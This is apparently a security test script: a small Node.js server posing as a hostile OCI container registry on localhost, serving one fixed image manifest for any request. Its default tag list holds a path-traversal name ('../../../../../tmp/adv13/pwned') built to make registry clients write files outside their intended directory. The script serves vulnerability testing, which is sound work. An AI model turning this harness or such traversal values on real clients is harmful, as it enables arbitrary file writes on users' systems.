// Probe: a hostile registry whose tag list holds path-traversal names; serves one image for any reference.

import { createHash } from "node:crypto";
import { createServer } from "node:http";

const sha = (b) => `sha256:${createHash("sha256").update(b).digest("hex")}`;
const cfg = Buffer.from('{"os":"linux","architecture":"amd64"}');
const manifest = Buffer.from(
  JSON.stringify({
    schemaVersion: 2,
    mediaType: "application/vnd.oci.image.manifest.v1+json",
    config: { mediaType: "application/vnd.oci.image.config.v1+json", digest: sha(cfg), size: cfg.length },
    layers: [],
  }),
);
const tags = JSON.parse(process.argv[3] ?? '["ok","../../../../../tmp/adv13/pwned"]');
createServer((req, res) => {
  const u = req.url;
  process.stderr.write(`${req.method} ${u}\n`);
  if (u === "/v2/") return res.end("{}");
  if (u.includes("/tags/list")) {
    res.setHeader("content-type", "application/json");
    return res.end(JSON.stringify({ name: "x", tags }));
  }
  if (u.includes("/blobs/")) {
    res.setHeader("content-length", cfg.length);
    return res.end(req.method === "HEAD" ? undefined : cfg);
  }
  if (u.includes("/manifests/") || !u.startsWith("/v2/")) {
    res.setHeader("content-type", "application/vnd.oci.image.manifest.v1+json");
    res.setHeader("docker-content-digest", sha(manifest));
    res.setHeader("content-length", manifest.length);
    return res.end(req.method === "HEAD" ? undefined : manifest);
  }
  res.statusCode = 404;
  res.end();
}).listen(Number(process.argv[2]), "127.0.0.1");
